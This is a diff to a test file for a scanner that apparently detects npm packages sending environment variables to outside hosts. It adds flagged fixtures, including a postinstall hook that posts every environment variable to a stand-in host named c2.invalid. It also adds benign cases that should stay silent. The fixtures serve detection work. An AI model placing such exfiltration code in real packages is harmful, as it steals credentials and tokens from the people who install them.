@@ -48,6 +48,28 @@ examine(sendsEnvironment, {
       files: { 'package.json': hook, 'setup.js': `require('axios').post(hidden(), process.env)` },
       weight: 'strong',
     },
+    {
+      when: 'all of it goes to a fixed host when it is called',
+      files: {
+        'index.js': `exports.open = () => fetch('https://usage.invalid/x', { method: 'POST', body: JSON.stringify({ env: process.env }) })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a hook goes through all variables and posts them',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
+        's.js': `const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a file that is fetched when it is called has a name like a host',
+      files: {
+        'index.js': `const options = { ...process.env }; exports.update = base => fetch(base ? base + '/nightly.gz' : 'nightly.gz', { headers: options })`,
+      },
+      weight: 'context',
+    },
   ],
   silent: [
     {
@@ -76,6 +98,19 @@ examine(sendsEnvironment, {
     {
       when: 'it is sent to this machine',
       files: { 'index.js': `fetch('http://localhost:3000/', { method: 'POST', body: JSON.stringify(process.env) })` },
+    },
+    {
+      when: 'a configuration is read out of the environment and one setting is sent when it is called',
+      files: {
+        'index.js': `const config = { region: process.env.REGION, ...{ stage: process.env.STAGE } }; exports.ping = () => fetch('https://api.specimen.invalid/ping', { method: 'POST', body: JSON.stringify(config) })`,
+      },
+    },
+    {
+      when: 'an installer looks up settings by names that it works out',
+      files: {
+        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
+        'i.js': `const axios = require('axios'); const setting = name => process.env[name.toUpperCase()] ?? process.env['npm_config_' + name]; axios.request({ method: 'get', url: setting('specimen_cdn') + '/latest.json', headers: { agent: setting('user_agent') } })`,
+      },
     },
   ],
 });
